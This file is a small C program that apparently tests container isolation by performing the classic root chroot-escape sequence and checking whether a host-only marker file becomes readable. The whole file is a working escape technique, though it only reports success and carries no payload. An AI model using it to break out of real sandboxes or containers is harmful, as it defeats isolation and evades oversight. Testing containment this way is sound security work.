/* escape MARKER: the classic chroot escape, run as root inside a container.
 * mkdir x; chroot x; chdir .. many times; chroot . — then try to open MARKER, a path that
 * exists only on the host. Exit 0 when the escape reached the host (MARKER opened), 1 when it
 * did not, 2 when the attempt could not even be made (what failed is printed). */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	const char *dir = "/tmp/.escape";

	if (argc != 2) {
		fprintf(stderr, "usage: escape MARKER\n");
		return 2;
	}
	if (mkdir(dir, 0700) && errno != EEXIST) {
		perror("mkdir");
		return 2;
	}
	if (chroot(dir)) {
		perror("chroot");
		return 2;
	}
	for (int i = 0; i < 256; i++)
		if (chdir(".."))
			break;
	if (chroot(".")) {
		perror("chroot .");
		return 2;
	}
	if (open(argv[1], O_RDONLY) >= 0) {
		printf("escaped: opened %s\n", argv[1]);
		return 0;
	}
	printf("contained: %s: %s\n", argv[1], strerror(errno));
	return 1;
}
